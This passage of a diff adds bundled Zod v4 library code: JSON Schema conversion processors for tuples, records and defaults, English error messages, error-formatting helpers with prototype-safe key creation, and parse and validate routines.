+    });
+    const b = to_json_schema_processSchema(def.right, ctx, {
+        ...params,
+        path: [...params.path, "allOf", 1],
+    });
+    const isSimpleIntersection = (val) => "allOf" in val && Object.keys(val).length === 1;
+    const allOf = [
+        ...(isSimpleIntersection(a) ? a.allOf : [a]),
+        ...(isSimpleIntersection(b) ? b.allOf : [b]),
+    ];
+    json.allOf = allOf;
+    // Recorded innermost first, so a nested intersection has already folded by the time this one is considered. The array is the handle rather than the schema, because a wrapper that inherits this schema shares the same array; `finalize` folds every object holding it. See `foldIntersection`.
+    ctx.intersections.push(allOf);
+};
+const tupleProcessor = (schema, ctx, _json, params) => {
+    const json = _json;
+    const def = schema._zod.def;
+    json.type = "array";
+    const prefixPath = ctx.target === "draft-2020-12" ? "prefixItems" : "items";
+    const restPath = ctx.target === "draft-2020-12" ? "items" : ctx.target === "openapi-3.0" ? "items" : "additionalItems";
+    const prefixItems = def.items.map((x, i) => to_json_schema_processSchema(x, ctx, {
+        ...params,
+        path: [...params.path, prefixPath, i],
+    }));
+    const rest = def.rest
+        ? to_json_schema_processSchema(def.rest, ctx, {
+            ...params,
+            path: [...params.path, restPath, ...(ctx.target === "openapi-3.0" ? [def.items.length] : [])],
+        })
+        : null;
+    let minItems = def.items.length;
+    while (minItems > 0) {
+        const item = def.items[minItems - 1];
+        const optional = ctx.io === "input" ? inputOptin(item) !== undefined : item._zod.optout === "optional";
+        if (!optional)
+            break;
+        minItems--;
+    }
+    const maxItems = def.items.length;
+    const isClosed = !def.rest;
+    if (ctx.target === "draft-2020-12") {
+        json.prefixItems = prefixItems;
+        if (isClosed) {
+            json.items = false;
+        }
+        else if (rest) {
+            json.items = rest;
+        }
+        if (minItems > 0)
+            json.minItems = minItems;
+        if (isClosed)
+            json.maxItems = maxItems;
+    }
+    else if (ctx.target === "openapi-3.0") {
+        json.items = {
+            anyOf: prefixItems,
+        };
+        if (rest) {
+            json.items.anyOf.push(rest);
+        }
+        if (minItems > 0)
+            json.minItems = minItems;
+        if (isClosed)
+            json.maxItems = maxItems;
+    }
+    else {
+        json.items = prefixItems;
+        if (isClosed) {
+            json.additionalItems = false;
+        }
+        else if (rest) {
+            json.additionalItems = rest;
+        }
+        if (minItems > 0)
+            json.minItems = minItems;
+        if (isClosed)
+            json.maxItems = maxItems;
+    }
+    // explicit user-defined length checks take precedence
+    const { minimum, maximum } = aggregateChecks(schema);
+    if (typeof minimum === "number")
+        json.minItems = minimum;
+    if (typeof maximum === "number")
+        json.maxItems = maximum;
+};
+/** JSON object keys are always strings, so a numeric record key schema is re-expressed over the
+ * numeric-string form the record parser matches. Deferred to `finalize`, after the flatten: a key
+ * behind a wrapper only carries its own `type` before then, and a union key only has its branches.
+ *
+ * A numeric bound cannot apply to a property name, so `minimum` and its siblings are dropped rather
+ * than carried over: keeping them beside `type: "string"` reproduces the match-nothing schema this
+ * exists to fix. A key that carries one therefore emits wider than the record parses — `z.record(z.number().min(5), V)`
+ * accepts `"3"` — which is the deliberate trade, since throwing on it would reject an ordinary schema
+ * outright. */
+function stringifyKeyNames(bySchema, json, visited) {
+    // an extracted key that rewrites cannot go on sharing its definition — the string form a key position needs is not the number form every other reference wants — so it inlines. One that does not rewrite keeps the `$ref`.
+    if (json.$ref) {
+        // a recursive key holds its own reference inside its definition, so a node already on the path is left alone rather than resolved again
+        if (visited.has(json))
+            return json;
+        visited.add(json);
+        const def = bySchema.get(json)?.def;
+        if (!def)
+            return json;
+        const inlined = stringifyKeyNames(bySchema, def, visited);
+        return inlined === def ? json : inlined;
+    }
+    for (const keyword of ["anyOf", "oneOf"]) {
+        const branches = json[keyword];
+        if (!Array.isArray(branches))
+            continue;
+        const mapped = branches.map((branch) => stringifyKeyNames(bySchema, branch, visited));
+        // rebuilding regardless would detach a key that had nothing to re-express, dropping its `$ref` and leaking the internal `id`
+        if (mapped.some((branch, i) => branch !== branches[i]))
+            json = { ...json, [keyword]: mapped };
+    }
+    // a member that already admits a string leaves the key unconstrained, so the node's own type re-expresses only when every member is numeric
+    const types = Array.isArray(json.type) ? json.type : [json.type];
+    const numericType = !types.includes("string") && types.some((t) => t === "number" || t === "integer");
+    // a heterogeneous key carries no type at all, so its numeric members are caught here instead
+    const values = json.enum ?? (json.const !== undefined ? [json.const] : undefined);
+    if (!numericType && !values?.some((v) => typeof v === "number"))
+        return json;
+    const { minimum, maximum, exclusiveMinimum, exclusiveMaximum, multipleOf, format, id, ...rest } = json;
+    if (rest.enum)
+        rest.enum = rest.enum.map((v) => (typeof v === "number" ? String(v) : v));
+    else if (typeof rest.const === "number")
+        rest.const = String(rest.const);
+    // a heterogeneous key keeps its absent type: the stringified members already say what a key may be
+    if (!numericType)
+        return rest;
+    rest.type = "string";
+    if (!values)
+        rest.pattern = (types.includes("number") ? number : integer).source;
+    return rest;
+}
+/** Every record of one conversion, so the carriers are found in a single pass rather than once per record. */
+const pendingRecords = new WeakMap();
+function rewriteKeyNames(ctx) {
+    // an extracted key is resolved by the object `extractToDef` left in its place, so the map is built once rather than searched per reference. `_zod.toJSONSchema` can hand the same object to two schemas, so the first entry carrying a body wins, as a search would have found it.
+    const bySchema = new Map();
+    for (const entry of ctx.seen.values()) {
+        if (entry.def && !bySchema.has(entry.schema))
+            bySchema.set(entry.schema, entry);
+    }
+    const rewrites = new Map();
+    for (const record of pendingRecords.get(ctx) ?? []) {
+        const seen = ctx.seen.get(record);
+        const names = (seen?.def ?? seen?.schema)?.propertyNames;
+        if (!names || names === true || rewrites.has(names))
+            continue;
+        const rewritten = stringifyKeyNames(bySchema, names, new Set());
+        if (rewritten !== names)
+            rewrites.set(names, rewritten);
+    }
+    if (!rewrites.size)
+        return;
+    // the flatten has already copied each record's own properties onto every wrapper by reference, and an extracted body is another such copy, so every carrier holding a rewritten key is updated together
+    for (const entry of ctx.seen.values()) {
+        for (const carrier of [entry.schema, entry.def]) {
+            const rewritten = carrier && rewrites.get(carrier.propertyNames);
+            if (rewritten)
+                carrier.propertyNames = rewritten;
+        }
+    }
+}
+const recordProcessor = (schema, ctx, _json, params) => {
+    const json = _json;
+    const def = schema._zod.def;
+    json.type = "object";
+    // For looseRecord with regex patterns, use patternProperties. This correctly represents "only validate keys matching the pattern" semantics and composes well with allOf (intersections)
+    const keyType = def.keyType;
+    const patterns = aggregateChecks(keyType).patterns;
+    if (def.mode === "loose" && patterns && patterns.size > 0) {
+        // Use patternProperties for looseRecord with regex patterns
+        const valueSchema = to_json_schema_processSchema(def.valueType, ctx, {
+            ...params,
+            path: [...params.path, "patternProperties", "*"],
+        });
+        json.patternProperties = {};
+        for (const pattern of patterns) {
+            util_assignProp(json.patternProperties, exactPattern(pattern).source, valueSchema);
+        }
+    }
+    else {
+        // Default behavior: use propertyNames + additionalProperties
+        if (ctx.target === "draft-07" || ctx.target === "draft-2020-12") {
+            json.propertyNames = to_json_schema_processSchema(def.keyType, ctx, {
+                ...params,
+                path: [...params.path, "propertyNames"],
+            });
+            let pending = pendingRecords.get(ctx);
+            if (!pending) {
+                pending = [];
+                pendingRecords.set(ctx, pending);
+                ctx.deferred.push(() => rewriteKeyNames(ctx));
+            }
+            pending.push(schema);
+        }
+        json.additionalProperties = to_json_schema_processSchema(def.valueType, ctx, {
+            ...params,
+            path: [...params.path, "additionalProperties"],
+        });
+    }
+    // Add required for keys with discrete values (enum, literal, etc.)
+    const keyValues = keyType._zod.values;
+    // Every key shares one value schema, so an optional-in value makes the whole key set omittable on input. Output keeps them: the exhaustive branch assigns every key, even one whose value came back undefined.
+    const omittableOnInput = ctx.io === "input" && inputOptin(def.valueType) !== undefined;
+    if (keyValues && !def.partial && !omittableOnInput) {
+        const validKeyValues = [...keyValues].filter((v) => typeof v === "string" || typeof v === "number");
+        if (validKeyValues.length > 0) {
+            json.required = validKeyValues.map(String);
+        }
+    }
+};
+const nullableProcessor = (schema, ctx, json, params) => {
+    const def = schema._zod.def;
+    const inner = to_json_schema_processSchema(def.innerType, ctx, params);
+    const seen = ctx.seen.get(schema);
+    if (ctx.target === "openapi-3.0") {
+        seen.ref = def.innerType;
+        json.nullable = true;
+    }
+    else {
+        json.anyOf = [inner, { type: "null" }];
+    }
+};
+const nonoptionalProcessor = (schema, ctx, _json, params) => {
+    const def = schema._zod.def;
+    to_json_schema_processSchema(def.innerType, ctx, params);
+    const seen = ctx.seen.get(schema);
+    seen.ref = def.innerType;
+};
+/** Round-trips a default value through JSON so the emitted schema is guaranteed to be valid JSON.
+ * A BigInt has no reliable encoding, so it goes through `unrepresentable` like any other
+ * unrepresentable value. Returns a sentinel when the caller must not write a default of its own. */
+const UNREPRESENTABLE_DEFAULT = Symbol();
+function serializeDefaultValue(value, schema, ctx, json, params) {
+    let unrepresentable = false;
+    const serialized = JSON.stringify(value, (_, val) => {
+        if (typeof val !== "bigint")
+            return val;
+        unrepresentable = true;
+        return null;
+    });
+    if (!unrepresentable)
+        return JSON.parse(serialized);
+    handleUnrepresentable(schema, ctx, json, params, "BigInt defaults cannot be represented in JSON Schema");
+    return UNREPRESENTABLE_DEFAULT;
+}
+const defaultProcessor = (schema, ctx, json, params) => {
+    const def = schema._zod.def;
+    to_json_schema_processSchema(def.innerType, ctx, params);
+    const seen = ctx.seen.get(schema);
+    seen.ref = def.innerType;
+    const value = serializeDefaultValue(def.defaultValue, schema, ctx, json, params);
+    if (value !== UNREPRESENTABLE_DEFAULT)
+        json.default = value;
+};
+const prefaultProcessor = (schema, ctx, json, params) => {
+    const def = schema._zod.def;
+    to_json_schema_processSchema(def.innerType, ctx, params);
+    const seen = ctx.seen.get(schema);
+    seen.ref = def.innerType;
+    if (ctx.io !== "input")
+        return;
+    const value = serializeDefaultValue(def.defaultValue, schema, ctx, json, params);
+    if (value !== UNREPRESENTABLE_DEFAULT)
+        json._prefault = value;
+};
+const catchProcessor = (schema, ctx, json, params) => {
+    const def = schema._zod.def;
+    to_json_schema_processSchema(def.innerType, ctx, params);
+    const seen = ctx.seen.get(schema);
+    seen.ref = def.innerType;
+    let catchValue;
+    try {
+        catchValue = def.catchValue(undefined);
+    }
+    catch {
+        handleUnrepresentable(schema, ctx, json, params, "Dynamic catch values are not supported in JSON Schema");
+        return;
+    }
+    json.default = catchValue;
+};
+const pipeProcessor = (schema, ctx, _json, params) => {
+    const def = schema._zod.def;
+    const inIsTransform = def.in._zod.traits.has("$ZodTransform");
+    const innerType = ctx.io === "input" ? (inIsTransform ? def.out : def.in) : def.out;
+    to_json_schema_processSchema(innerType, ctx, params);
+    const seen = ctx.seen.get(schema);
+    seen.ref = innerType;
+};
+const readonlyProcessor = (schema, ctx, json, params) => {
+    const def = schema._zod.def;
+    to_json_schema_processSchema(def.innerType, ctx, params);
+    const seen = ctx.seen.get(schema);
+    seen.ref = def.innerType;
+    json.readOnly = true;
+};
+const promiseProcessor = (schema, ctx, _json, params) => {
+    const def = schema._zod.def;
+    to_json_schema_processSchema(def.innerType, ctx, params);
+    const seen = ctx.seen.get(schema);
+    seen.ref = def.innerType;
+};
+const optionalProcessor = (schema, ctx, _json, params) => {
+    const def = schema._zod.def;
+    to_json_schema_processSchema(def.innerType, ctx, params);
+    const seen = ctx.seen.get(schema);
+    seen.ref = def.innerType;
+};
+const lazyProcessor = (schema, ctx, _json, params) => {
+    const innerType = schema._zod.innerType;
+    to_json_schema_processSchema(innerType, ctx, params);
+    const seen = ctx.seen.get(schema);
+    seen.ref = innerType;
+};
+// ==================== ALL PROCESSORS ====================
+const allProcessors = {
+    string: stringProcessor,
+    number: numberProcessor,
+    boolean: booleanProcessor,
+    bigint: bigintProcessor,
+    symbol: symbolProcessor,
+    null: nullProcessor,
+    undefined: undefinedProcessor,
+    void: voidProcessor,
+    never: neverProcessor,
+    any: anyProcessor,
+    unknown: unknownProcessor,
+    date: dateProcessor,
+    enum: enumProcessor,
+    literal: literalProcessor,
+    nan: nanProcessor,
+    template_literal: templateLiteralProcessor,
+    file: fileProcessor,
+    success: successProcessor,
+    custom: customProcessor,
+    function: functionProcessor,
+    transform: transformProcessor,
+    map: mapProcessor,
+    set: setProcessor,
+    array: arrayProcessor,
+    object: objectProcessor,
+    union: unionProcessor,
+    intersection: intersectionProcessor,
+    tuple: tupleProcessor,
+    record: recordProcessor,
+    nullable: nullableProcessor,
+    nonoptional: nonoptionalProcessor,
+    default: defaultProcessor,
+    prefault: prefaultProcessor,
+    catch: catchProcessor,
+    pipe: pipeProcessor,
+    readonly: readonlyProcessor,
+    promise: promiseProcessor,
+    optional: optionalProcessor,
+    lazy: lazyProcessor,
+};
+function toJSONSchema(input, params) {
+    if ("_idmap" in input) {
+        // Registry case
+        const registry = input;
+        const ctx = initializeContext({ ...params, processors: allProcessors });
+        const defs = {};
+        // First pass: process all schemas to build the seen map
+        for (const entry of registry._idmap.entries()) {
+            const [_, schema] = entry;
+            processSchema(schema, ctx);
+        }
+        const schemas = {};
+        const external = {
+            registry,
+            uri: params?.uri,
+            defs,
+        };
+        // Update the context with external configuration
+        ctx.external = external;
+        // Second pass: emit each schema
+        for (const entry of registry._idmap.entries()) {
+            const [key, schema] = entry;
+            extractDefs(ctx, schema);
+            assignProp(schemas, key, finalize(ctx, schema));
+        }
+        if (Object.keys(defs).length > 0) {
+            const defsSegment = ctx.target === "draft-2020-12" ? "$defs" : "definitions";
+            schemas.__shared = {
+                [defsSegment]: defs,
+            };
+        }
+        return { schemas };
+    }
+    // Single schema case
+    const ctx = initializeContext({ ...params, processors: allProcessors });
+    processSchema(input, ctx);
+    extractDefs(ctx, input);
+    return finalize(ctx, input);
+}
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/locales/en.js
+
+const error = () => {
+    const Sizable = {
+        string: { unit: "characters", verb: "to have" },
+        file: { unit: "bytes", verb: "to have" },
+        array: { unit: "items", verb: "to have" },
+        set: { unit: "items", verb: "to have" },
+        map: { unit: "entries", verb: "to have" },
+    };
+    function getSizing(origin) {
+        return Sizable[origin] ?? null;
+    }
+    const FormatDictionary = {
+        regex: "input",
+        email: "email address",
+        url: "URL",
+        emoji: "emoji",
+        uuid: "UUID",
+        uuidv4: "UUIDv4",
+        uuidv6: "UUIDv6",
+        nanoid: "nanoid",
+        guid: "GUID",
+        cuid: "cuid",
+        cuid2: "cuid2",
+        ulid: "ULID",
+        xid: "XID",
+        ksuid: "KSUID",
+        datetime: "ISO datetime",
+        date: "ISO date",
+        time: "ISO time",
+        duration: "ISO duration",
+        ipv4: "IPv4 address",
+        ipv6: "IPv6 address",
+        mac: "MAC address",
+        cidrv4: "IPv4 range",
+        cidrv6: "IPv6 range",
+        base64: "base64-encoded string",
+        base64url: "base64url-encoded string",
+        json_string: "JSON string",
+        e164: "E.164 number",
+        currency_code: "currency code",
+        credit_card: "credit card number",
+        iban: "IBAN",
+        jwt: "JWT",
+        template_literal: "input",
+    };
+    // type names: missing keys = do not translate (use raw value via ?? fallback)
+    const TypeDictionary = {
+        // Compatibility: "nan" -> "NaN" for display
+        nan: "NaN",
+        // All other type names omitted - they fall back to raw values via ?? operator
+    };
+    function getTypeName(type, input) {
+        if (type === "number" && typeof input === "number" && !Number.isFinite(input)) {
+            return String(input);
+        }
+        return TypeDictionary[type] ?? type;
+    }
+    return (issue) => {
+        switch (issue.code) {
+            case "invalid_type": {
+                const expected = getTypeName(issue.expected);
+                const receivedType = parsedType(issue.input);
+                const received = getTypeName(receivedType, issue.input);
+                return `Invalid input: expected ${expected}, received ${received}`;
+            }
+            case "invalid_value":
+                if (issue.values.length === 1)
+                    return `Invalid input: expected ${stringifyPrimitive(issue.values[0])}`;
+                return `Invalid option: expected one of ${joinValues(issue.values, "|")}`;
+            case "too_big": {
+                const adj = issue.exact ? "exactly " : issue.inclusive ? "<=" : "<";
+                const sizing = getSizing(issue.origin);
+                if (sizing)
+                    return `Too big: expected ${issue.origin ?? "value"} to have ${adj}${issue.maximum.toString()} ${sizing.unit ?? "elements"}`;
+                return `Too big: expected ${issue.origin ?? "value"} to be ${adj}${issue.maximum.toString()}`;
+            }
+            case "too_small": {
+                const adj = issue.exact ? "exactly " : issue.inclusive ? ">=" : ">";
+                const sizing = getSizing(issue.origin);
+                if (sizing) {
+                    return `Too small: expected ${issue.origin} to have ${adj}${issue.minimum.toString()} ${sizing.unit}`;
+                }
+                return `Too small: expected ${issue.origin} to be ${adj}${issue.minimum.toString()}`;
+            }
+            case "invalid_format": {
+                const _issue = issue;
+                if (_issue.format === "starts_with") {
+                    return `Invalid string: must start with "${_issue.prefix}"`;
+                }
+                if (_issue.format === "ends_with")
+                    return `Invalid string: must end with "${_issue.suffix}"`;
+                if (_issue.format === "includes")
+                    return `Invalid string: must include "${_issue.includes}"`;
+                if (_issue.format === "regex")
+                    return `Invalid string: must match pattern ${_issue.pattern}`;
+                return `Invalid ${FormatDictionary[_issue.format] ?? issue.format}`;
+            }
+            case "not_multiple_of":
+                return `Invalid number: must be a multiple of ${issue.divisor}`;
+            case "unrecognized_keys":
+                return `Unrecognized key${issue.keys.length > 1 ? "s" : ""}: ${joinValues(issue.keys, ", ")}`;
+            case "invalid_key":
+                return `Invalid key in ${issue.origin}`;
+            case "invalid_union":
+                if (issue.options && Array.isArray(issue.options) && issue.options.length > 0) {
+                    const opts = issue.options.map((o) => `'${o}'`).join(" | ");
+                    return `Invalid discriminator value. Expected ${opts}`;
+                }
+                if (issue.inclusive === false) {
+                    return "Invalid input: more than one option matched";
+                }
+                return "Invalid input";
+            case "invalid_element":
+                return `Invalid value in ${issue.origin}`;
+            default:
+                return `Invalid input`;
+        }
+    };
+};
+/* harmony default export */ function en() {
+    return {
+        localeError: error(),
+    };
+}
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/core/errors.js
+
+
+/* Computing the message eagerly is expensive (pretty-printed JSON of all
+ * issues), so defer it until first read. The accessor functions and
+ * descriptors are shared across instances to keep error construction
+ * cheap; the computed message is cached on the internals object. The
+ * setter preserves plain assignment semantics for consumers that
+ * overwrite `message`. */
+function _getMessage() {
+    const internals = this._zod;
+    internals.message ?? (internals.message = JSON.stringify(internals.def, jsonStringifyReplacer, 2));
+    return internals.message;
+}
+function _setMessage(value) {
+    this._zod.message = value;
+}
+const _messageDesc = {
+    get: _getMessage,
+    set: _setMessage,
+    enumerable: true,
+    configurable: true,
+};
+const _issuesDesc = { value: undefined, enumerable: false };
+/* Prototypes that already carry the lazy `toString`. Seeded with the
+ * intrinsics so that `init` on a foreign object — it accepts any object —
+ * can never install an accessor onto a prototype we do not own. */
+const _installedToString = /* @__PURE__ */ new WeakSet([Object.prototype, Error.prototype]);
+const initializer = (inst, def) => {
+    inst.name = "$ZodError";
+    // `_zod` is already non-enumerable: $constructor's init defined it with this same descriptor
+    _issuesDesc.value = def;
+    Object.defineProperty(inst, "issues", _issuesDesc);
+    // Clear the shared slot; a retained `value` pins the last error's issues.
+    _issuesDesc.value = undefined;
+    Object.defineProperty(inst, "message", _messageDesc);
+    /* `toString` lives as a non-enumerable lazy getter on the shared
+     * prototype; on first access it caches a per-instance closure so
+     * detached usage still works. */
+    const proto = Object.getPrototypeOf(inst);
+    if (!_installedToString.has(proto)) {
+        _installedToString.add(proto);
+        Object.defineProperty(proto, "toString", {
+            configurable: true,
+            enumerable: false,
+            get() {
+                const value = () => this.message;
+                Object.defineProperty(this, "toString", { value, configurable: true, writable: true });
+                return value;
+            },
+            set(value) {
+                Object.defineProperty(this, "toString", { value, configurable: true, writable: true });
+            },
+        });
+    }
+};
+const $ZodError = $constructor("$ZodError", initializer);
+const $ZodRealError = $constructor("$ZodError", initializer, undefined, {
+    Parent: Error,
+});
+/** Get-or-create `obj[key]` as an own data property. A path segment naming an inherited member
+ * ("toString", "constructor") would otherwise read through to the prototype, and assigning
+ * "__proto__" would hit the setter instead of creating a key. */
+function node(obj, key, make) {
+    if (!Object.prototype.hasOwnProperty.call(obj, key)) {
+        if (key === "__proto__") {
+            Object.defineProperty(obj, key, { value: make(), writable: true, enumerable: true, configurable: true });
+        }
+        else {
+            obj[key] = make();
+        }
+    }
+    return obj[key];
+}
+function flattenError(error, mapper = (issue) => issue.message) {
+    const fieldErrors = {};
+    const formErrors = [];
+    for (const sub of error.issues) {
+        if (sub.path.length > 0) {
+            node(fieldErrors, sub.path[0], () => []).push(mapper(sub));
+        }
+        else {
+            formErrors.push(mapper(sub));
+        }
+    }
+    return { formErrors, fieldErrors };
+}
+function formatError(error, mapper = (issue) => issue.message) {
+    const fieldErrors = { _errors: [] };
+    const processError = (error, path = []) => {
+        for (const issue of error.issues) {
+            if (issue.code === "invalid_union" && issue.errors.length) {
+                issue.errors.map((issues) => processError({ issues }, [...path, ...issue.path]));
+            }
+            else if (issue.code === "invalid_key") {
+                processError({ issues: issue.issues }, [...path, ...issue.path]);
+            }
+            else if (issue.code === "invalid_element") {
+                processError({ issues: issue.issues }, [...path, ...issue.path]);
+            }
+            else {
+                const fullpath = [...path, ...issue.path];
+                if (fullpath.length === 0) {
+                    fieldErrors._errors.push(mapper(issue));
+                }
+                else {
+                    let curr = fieldErrors;
+                    let i = 0;
+                    while (i < fullpath.length) {
+                        const el = fullpath[i];
+                        const terminal = i === fullpath.length - 1;
+                        // `_errors` is reserved by this legacy format, so merge a matching path segment into the current node instead of treating its array as a child.
+                        if (el === "_errors") {
+                            if (terminal)
+                                curr._errors.push(mapper(issue));
+                            i++;
+                            continue;
+                        }
+                        // A path element may collide with an inherited property name such as
+                        // "__proto__" or "constructor". Truthiness checks read the prototype
+                        // (so no node is created, then ._errors.push throws), and bracket
+                        // assignment of "__proto__" hits the setter instead of creating an
+                        // own key. Guard the read with hasOwnProperty and create the node
+                        // with defineProperty so any path element becomes a real own key.
+                        if (!Object.prototype.hasOwnProperty.call(curr, el)) {
+                            Object.defineProperty(curr, el, {
+                                value: { _errors: [] },
+                                enumerable: true,
+                                writable: true,
+                                configurable: true,
+                            });
+                        }
+                        const node = curr[el];
+                        if (terminal) {
+                            node._errors.push(mapper(issue));
+                        }
+                        curr = node;
+                        i++;
+                    }
+                }
+            }
+        }
+    };
+    processError(error);
+    return fieldErrors;
+}
+function treeifyError(error, mapper = (issue) => issue.message) {
+    const result = { errors: [] };
+    const processError = (error, path = []) => {
+        var _a;
+        for (const issue of error.issues) {
+            if (issue.code === "invalid_union" && issue.errors.length) {
+                // regular union error
+                issue.errors.map((issues) => processError({ issues }, [...path, ...issue.path]));
+            }
+            else if (issue.code === "invalid_key") {
+                processError({ issues: issue.issues }, [...path, ...issue.path]);
+            }
+            else if (issue.code === "invalid_element") {
+                processError({ issues: issue.issues }, [...path, ...issue.path]);
+            }
+            else {
+                const fullpath = [...path, ...issue.path];
+                if (fullpath.length === 0) {
+                    result.errors.push(mapper(issue));
+                    continue;
+                }
+                let curr = result;
+                let i = 0;
+                while (i < fullpath.length) {
+                    const el = fullpath[i];
+                    const terminal = i === fullpath.length - 1;
+                    if (typeof el === "string") {
+                        curr.properties ?? (curr.properties = {});
+                        // el may collide with an inherited property name ("__proto__",
+                        // "constructor", ...); ??= reads the prototype so the node is never
+                        // created and curr.errors.push throws. Guard with hasOwnProperty and
+                        // create the node with defineProperty so "__proto__" becomes a real
+                        // own key rather than invoking the prototype setter.
+                        if (!Object.prototype.hasOwnProperty.call(curr.properties, el)) {
+                            Object.defineProperty(curr.properties, el, {
+                                value: { errors: [] },
+                                enumerable: true,
+                                writable: true,
+                                configurable: true,
+                            });
+                        }
+                        curr = curr.properties[el];
+                    }
+                    else {
+                        curr.items ?? (curr.items = []);
+                        (_a = curr.items)[el] ?? (_a[el] = { errors: [] });
+                        curr = curr.items[el];
+                    }
+                    if (terminal) {
+                        curr.errors.push(mapper(issue));
+                    }
+                    i++;
+                }
+            }
+        }
+    };
+    processError(error);
+    return result;
+}
+/** Format a ZodError as a human-readable string in the following form.
+ *
+ * From
+ *
+ * ```ts
+ * ZodError {
+ *   issues: [
+ *     {
+ *       expected: 'string',
+ *       code: 'invalid_type',
+ *       path: [ 'username' ],
+ *       message: 'Invalid input: expected string'
+ *     },
+ *     {
+ *       expected: 'number',
+ *       code: 'invalid_type',
+ *       path: [ 'favoriteNumbers', 1 ],
+ *       message: 'Invalid input: expected number'
+ *     }
+ *   ];
+ * }
+ * ```
+ *
+ * to
+ *
+ * ```
+ * username
+ *   ✖ Expected number, received string at "username
+ * favoriteNumbers[0]
+ *   ✖ Invalid input: expected number
+ * ```
+ */
+function toDotPath(_path) {
+    const segs = [];
+    const path = _path.map((seg) => (typeof seg === "object" ? seg.key : seg));
+    for (const seg of path) {
+        if (typeof seg === "number")
+            segs.push(`[${seg}]`);
+        else if (typeof seg === "symbol")
+            segs.push(`[${JSON.stringify(String(seg))}]`);
+        else if (/[^\w$]/.test(seg))
+            segs.push(`[${JSON.stringify(seg)}]`);
+        else {
+            if (segs.length)
+                segs.push(".");
+            segs.push(seg);
+        }
+    }
+    return segs.join("");
+}
+function prettifyError(error) {
+    const lines = [];
+    // sort by path length
+    const issues = [...error.issues].sort((a, b) => (a.path ?? []).length - (b.path ?? []).length);
+    // Process each issue
+    for (const issue of issues) {
+        lines.push(`✖ ${issue.message}`);
+        if (issue.path?.length)
+            lines.push(`  → at ${toDotPath(issue.path)}`);
+    }
+    // Convert Map to formatted string
+    return lines.join("\n");
+}
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/core/parse.js
+
+
+
+// Always both keys, so the `_params` read site in `_parse` sees one object shape rather than two.
+function finalizeParams(callee, params) {
+    return { callee: params?.callee ?? callee, Err: params?.Err };
+}
+const _parse = (_Err) => {
+    const fn = (schema, value, _ctx, _params) => {
+        const ctx = _ctx ? { ..._ctx, async: false } : { async: false };
+        const result = schema._zod.run({ value, issues: [] }, ctx);
+        if (result instanceof Promise) {
+            throw new $ZodAsyncError();
+        }
+        if (result.issues.length) {
+            const e = new (_params?.Err ?? _Err)(result.issues.map((iss) => finalizeIssue(iss, ctx, config())));
+            captureStackTrace(e, _params?.callee ?? fn);
+            throw e;
+        }
+        return result.value;
+    };
+    return fn;
+};
+const parse_parse = /* @__PURE__*/ _parse($ZodRealError);
+const _parseAsync = (_Err) => {
+    const fn = async (schema, value, _ctx, params) => {
+        const ctx = _ctx ? { ..._ctx, async: true } : { async: true };
+        let result = schema._zod.run({ value, issues: [] }, ctx);
+        if (result instanceof Promise)
+            result = await result;
+        if (result.issues.length) {
+            const e = new (params?.Err ?? _Err)(result.issues.map((iss) => finalizeIssue(iss, ctx, config())));
+            captureStackTrace(e, params?.callee ?? fn);
+            throw e;
+        }
+        return result.value;
+    };
+    return fn;
+};
+const parse_parseAsync = /* @__PURE__*/ _parseAsync($ZodRealError);
+const _safeParse = (_Err) => (schema, value, _ctx) => {
+    const ctx = _ctx ? { ..._ctx, async: false } : { async: false };
+    const result = schema._zod.run({ value, issues: [] }, ctx);
+    if (result instanceof Promise) {
+        throw new $ZodAsyncError();
+    }
+    return result.issues.length ? failure(_Err, result.issues, ctx) : { success: true, data: result.value };
+};
+const safeParse = /* @__PURE__*/ _safeParse($ZodRealError);
+// the error is built on the first read of `error`: finalizing the issues and constructing the instance is most of a failing parse, and a caller that only branches on `success` never pays it. a getter in the literal keeps this small; the alternative, one shared accessor descriptor plus a hidden state slot, reads ~15% faster but costs ~75 B gzipped in every bundle
+function failure(Err, issues, ctx) {
+    let error;
+    return {
+        success: false,
+        get error() {
+            if (!error) {
+                error = new Err(issues.map((iss) => finalizeIssue(iss, ctx, config())));
+                // finalizeIssue drops `input`, so the built error holds nothing; keeping the raw issues past this point pins the parsed value for the life of the result
+                issues = undefined;
+                ctx = undefined;
+            }
+            return error;
+        },
+        set error(e) {
+            error = e;
+            // a replacement makes the getter's branch unreachable, so the captures have to go here too
+            issues = undefined;
+            ctx = undefined;
+        },
+    };
+}
+const _safeParseAsync = (_Err) => async (schema, value, _ctx) => {
+    const ctx = _ctx ? { ..._ctx, async: true } : { async: true };
+    let result = schema._zod.run({ value, issues: [] }, ctx);
+    if (result instanceof Promise)
+        result = await result;
+    return result.issues.length ? failure(_Err, result.issues, ctx) : { success: true, data: result.value };
+};
+const safeParseAsync = /* @__PURE__*/ _safeParseAsync($ZodRealError);
+// registry mirrors of the compiler's sentinels, so this module never imports the compiler
+const COMPILE_INVALID = /* @__PURE__ */ Symbol.for("zod.compile.invalid");
+const COMPILE_FALLBACK = /* @__PURE__ */ Symbol.for("zod.compile.fallback");
+// Deliberately tiny, because v8 will not inline a body carrying the fallback's object literals and throw. Everything that is not the compiled happy path lives in validateFallback, and that split is worth ~35% on a compiled schema.
+const validate = ((schema, value, _ctx) => {
+    const validator = schema._zod.bag.validator;
+    if (validator !== undefined) {
+        if (validator(value) !== COMPILE_INVALID)
+            return true;
+        // a definite sentinel means the runtime would reject, so skip the re-parse; a ctx can still change the answer
+        if (validator.definite === true && _ctx === undefined)
+            return false;
+    }
+    return validateFallback(schema, value, _ctx);
+});
+function validateFallback(schema, value, _ctx) {
+    const ctx = _ctx
+        ? { ..._ctx, async: false, abortEarly: true }
+        : { async: false, abortEarly: true };
+    const fallbackRun = schema._zod.bag.fallbackRun;
+    let result;
+    if (fallbackRun) {
+        // skip nested fast paths on the fallback, so user callbacks keep the at-most-twice bound
+        ctx[COMPILE_FALLBACK] = true;
+        result = fallbackRun({ value, issues: [] }, ctx);
+    }
+    else {
+        result = schema._zod.run({ value, issues: [] }, ctx);
+    }
+    if (result instanceof Promise) {
+        throw new $ZodAsyncError();
+    }
+    return result.issues.length === 0;
+}
+// no fast path: the compiler keeps async parses on the runtime, because a promise-returning callback that is not declared async compiles to a throw
+const parse_validateAsync = async (schema, value, _ctx) => {
+    const ctx = _ctx
+        ? { ..._ctx, async: true, abortEarly: true }
+        : { async: true, abortEarly: true };
+    let result = schema._zod.run({ value, issues: [] }, ctx);
+    if (result instanceof Promise)
